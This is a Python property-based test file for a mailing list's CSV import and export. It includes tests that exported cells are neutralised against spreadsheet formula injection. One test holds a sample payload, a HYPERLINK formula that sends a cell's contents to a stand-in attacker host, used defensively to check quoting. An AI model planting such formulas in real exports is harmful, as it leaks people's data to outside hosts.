"""Properties of import over random valid lists, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailer.headersafety import one_line
from mailer.store import ImportCounts, MemberRecord, SubscriberStore
from mailer.store.csvio import import_members, write_members

# Printable text without the characters a spreadsheet cell cannot hold (NUL and
# other controls; PostgreSQL refuses NUL in text) or that CSV tags split on.
TEXT = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=30)
TAG = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Zs"), exclude_characters=";,"),
    min_size=1,
    max_size=12,
)
LOCAL = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._+-]{0,15}", fullmatch=True).filter(
    lambda local: ".." not in local and not local.endswith(".")
)
DOMAIN = st.sampled_from(
    ["example.org", "Example.COM", "lists.example.net", "bücher.example", "xn--caf-dma.example"]
)
ATTRIBUTES = ["member_type", "Size", "Notes"]


@st.composite
def member_lists(draw: st.DrawFn) -> tuple[list[str], list[list[str]]]:
    """A header and rows of distinct, valid members, as an editor's spreadsheet might have them."""
    columns = [
        "email",
        *draw(st.permutations(["name", "organisation", "region", "tags", *ATTRIBUTES])),
    ]
    columns = columns[: draw(st.integers(min_value=1, max_value=len(columns)))]
    emails = draw(
        st.lists(
            st.tuples(LOCAL, DOMAIN), max_size=12, unique_by=lambda e: f"{e[0]}@{e[1]}".lower()
        )
    )
    rows = []
    for local, domain in emails:
        cells = {
            "email": f"{local}@{domain}",
            "tags": "; ".join(draw(st.lists(TAG, max_size=3))),
        }
        rows.append([cells.get(column) or draw(TEXT) for column in columns])
    return columns, rows


def as_csv(columns: list[str], rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(columns)
    writer.writerows(rows)
    return out.getvalue()


def wipe(store: SubscriberStore) -> None:
    """Empty the store between examples (members' history goes with them)."""
    with store.engine.begin() as connection:
        connection.exec_driver_sql("DELETE FROM subscribers")
        connection.exec_driver_sql("DELETE FROM suppressions")


def _import(store: SubscriberStore, path: Path, text: str, bom: bool) -> ImportCounts:
    path.write_text(("\ufeff" if bom else "") + text, encoding="utf-8", newline="")
    return import_members(store, path).counts


class TestImportProperties:
    @settings(
        max_examples=40,
        deadline=None,
        # One store per test, emptied by wipe() at the start of each example.
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(members=member_lists(), delimiter=st.sampled_from([",", ";"]), bom=st.booleans())
    def test_importing_a_list_twice_changes_nothing_the_second_time(
        self,
        store: SubscriberStore,
        tmp_path: Path,
        members: tuple[list[str], list[list[str]]],
        delimiter: str,
        bom: bool,
    ) -> None:
        """Any valid list adds every row once; importing it again adds and updates nothing."""
        wipe(store)
        columns, rows = members
        text = as_csv(columns, rows, delimiter)
        path = tmp_path / "members.csv"
        assert ImportCounts(added=len(rows)) == _import(store, path, text, bom)
        before = store.list_subscribers()
        assert ImportCounts(unchanged=len(rows)) == _import(store, path, text, bom)
        assert before == store.list_subscribers()

    @settings(
        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(members=member_lists())
    def test_an_export_imports_back_unchanged(
        self, store: SubscriberStore, tmp_path: Path, members: tuple[list[str], list[list[str]]]
    ) -> None:
        """Whatever was imported, its export reads back with every member unchanged."""
        wipe(store)
        columns, rows = members
        _import(store, tmp_path / "members.csv", as_csv(columns, rows, ","), bom=False)
        exported = io.StringIO()
        write_members(store.list_subscribers(), exported)
        counts = _import(store, tmp_path / "export.csv", exported.getvalue(), bom=True)
        assert ImportCounts(unchanged=len(rows)) == counts


# Cells a spreadsheet would run (OWASP's list), and the quotes an export puts before them.
RISKY = st.tuples(
    st.sampled_from(["", "'", "''"]),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "x"]),
    TEXT,
).map(lambda parts: "".join(parts).strip())
# A name, organisation or region is kept on one line by every way in (import, the form).
RISKY_LINE = RISKY.filter(lambda value: one_line(value) == value)


class TestFormulaInjection:
    def test_an_export_runs_nothing_in_a_spreadsheet(self, store: SubscriberStore) -> None:
        """Before: a name typed into the sign-up form was exported verbatim, and Excel ran it."""
        attack = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
        store.add(
            [
                MemberRecord(
                    "ann@example.org",
                    name=attack,
                    organisation="+1 555 0100",
                    region="-East",
                    attributes={"note": "@SUM(A1:A9)"},
                    tags=("-youth",),
                )
            ],
            source="test",
        )
        out = io.StringIO()
        write_members(store.list_subscribers(), out)
        [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
        cells = dict(zip(header, row, strict=True))
        assert ("'" + attack, "'+1 555 0100", "'-East", "'@SUM(A1:A9)", "'-youth") == (
            cells["name"],
            cells["organisation"],
            cells["region"],
            cells["note"],
            cells["tags"],
        )

    @settings(
        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(values=st.lists(st.tuples(RISKY_LINE, RISKY_LINE, RISKY), min_size=1, max_size=6))
    def test_export_then_import_is_lossless(
        self, store: SubscriberStore, tmp_path: Path, values: list[tuple[str, str, str]]
    ) -> None:
        """Import takes off exactly the quote export added: every member reads back unchanged."""
        wipe(store)
        store.add(
            [
                MemberRecord(
                    f"m{n}@example.org",
                    organisation=organisation,
                    region=region,
                    attributes={"note": note} if note else {},
                )
                for n, (organisation, region, note) in enumerate(values)
            ],
            source="test",
        )
        before = store.list_subscribers()
        exported = io.StringIO()
        write_members(before, exported)
        wipe(store)
        counts = _import(store, tmp_path / "export.csv", exported.getvalue(), bom=False)
        assert len(values) == counts.added
        after = {
            m.email: (m.organisation, m.region, m.attributes) for m in store.list_subscribers()
        }
        assert {m.email: (m.organisation, m.region, m.attributes) for m in before} == after
